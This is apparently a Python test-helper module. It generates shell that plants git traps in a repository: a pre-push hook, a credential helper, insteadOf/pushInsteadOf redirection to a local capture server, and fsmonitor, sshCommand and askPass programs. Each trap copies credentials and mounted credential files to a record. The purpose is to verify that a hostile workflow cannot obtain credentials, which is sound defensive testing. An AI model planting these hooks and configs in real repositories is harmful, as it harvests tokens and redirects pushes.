"""Traps a hostile workflow lays for repository credentials, and an HTTP server that sees them.

`trap_script()` is shell a workflow step runs inside the workspace repository. It plants what
git obeys when it runs in that repository: a `pre-push` hook, a `credential.helper`, an
`insteadOf`/`pushInsteadOf` that sends the push to `CredentialObserver`, `core.fsmonitor`,
`core.sshCommand` and `core.askPass`. Each trap, when run, appends to a file in the record
directory, together with whatever it can read of the mounted credentials; the observer records
every request and its Authorization header. So "the credentials never reached the workflow"
reads as: no record file, no request, and the token in neither.
"""

from __future__ import annotations

import base64
import shlex
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path


@dataclass
class CredentialObserver:
    """An HTTP server on 127.0.0.1 that asks for Basic credentials and records every attempt."""

    url: str = ""
    requests: list[tuple[str, str]] = field(default_factory=list)   # (path, Authorization header)

    def credentials_seen(self) -> list[str]:
        """Decoded `user:password` of every Authorization header received."""
        seen = []
        for _, header in self.requests:
            if header.startswith("Basic "):
                seen.append(base64.b64decode(header.removeprefix("Basic ")).decode(errors="replace"))
        return seen


@contextmanager
def credential_observer() -> Iterator[CredentialObserver]:
    observer = CredentialObserver()

    class Handler(BaseHTTPRequestHandler):
        def _deny(self) -> None:
            observer.requests.append((self.path, self.headers.get("Authorization", "")))
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="observer"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_GET = do_POST = _deny  # noqa: N815 - http.server's naming

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - signature of the base
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    observer.url = f"http://127.0.0.1:{server.server_address[1]}/observed.git"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield observer
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def trap_script(*, record_dir: Path, remote_url: str, observer_url: str, credentials_dir: str) -> str:
    """Shell that plants the traps in the repository it runs in (its working directory)."""
    rec, creds = shlex.quote(str(record_dir)), shlex.quote(credentials_dir)

    def recorder(name: str) -> str:
        # A program that records that it ran, its stdin (a credential helper gets the credentials
        # there) and the mounted credential files, then exits 0 so git carries on.
        return (f'echo "{name} ran: $*" >> {rec}/{name}; cat >> {rec}/{name} 2>/dev/null; '
                f"cat {creds}/* >> {rec}/{name} 2>/dev/null; exit 0")

    scripts = {name: f"#!/bin/sh\n{recorder(name)}\n" for name in ("fsmonitor", "ssh-command", "askpass")}
    lines = ["set -e", f"mkdir -p {rec}", 'hooks="$(git rev-parse --git-dir)/hooks"', 'mkdir -p "$hooks"']
    lines.append(f"printf '%s' {shlex.quote('#!/bin/sh' + chr(10) + recorder('pre-push') + chr(10))} "
                 '> "$hooks/pre-push"')
    lines.append('chmod +x "$hooks/pre-push"')
    for name, text in scripts.items():
        lines.append(f"printf '%s' {shlex.quote(text)} > {rec}/../trap-{name}.sh")
        lines.append(f"chmod +x {rec}/../trap-{name}.sh")
    helper = "!f() { " + recorder("credential-helper").replace("exit 0", "true") + "; }; f"
    lines += [
        f"git config credential.helper {shlex.quote(helper)}",
        f"git config url.{shlex.quote(observer_url)}.insteadOf {shlex.quote(remote_url)}",
        f"git config url.{shlex.quote(observer_url)}.pushInsteadOf {shlex.quote(remote_url)}",
        f"git config core.fsmonitor {rec}/../trap-fsmonitor.sh",
        f"git config core.sshCommand {rec}/../trap-ssh-command.sh",
        f"git config core.askPass {rec}/../trap-askpass.sh",
    ]
    return "\n".join(lines) + "\n"


def sprung(record_dir: Path) -> dict[str, str]:
    """The traps that ran: record file name -> its content."""
    if not record_dir.is_dir():
        return {}
    return {path.name: path.read_text(errors="replace") for path in sorted(record_dir.iterdir())}
